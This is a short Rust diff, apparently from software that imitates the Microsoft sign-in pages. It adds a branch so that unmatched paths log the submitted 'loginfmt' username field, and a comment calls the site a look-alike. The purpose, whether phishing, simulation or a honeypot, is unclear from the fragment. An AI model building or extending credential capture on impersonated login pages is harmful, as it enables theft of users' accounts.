@@ -170,7 +170,13 @@ impl Pages {
             }
             ["jsdisabled"] => Ok("JavaScript is required to sign in.\n".into_response()),
             [] => Ok(interrupts::redirect("https://www.office.com/")),
-            _ => Err(Refusal::NoSuchPage),
+            _ => {
+                // A form that asks for a credential and posts it anywhere else on a look-alike.
+                if post {
+                    login::note(self, visit, visit.posted("loginfmt"), 50_089);
+                }
+                Err(Refusal::NoSuchPage)
+            }
         }
     }
 }
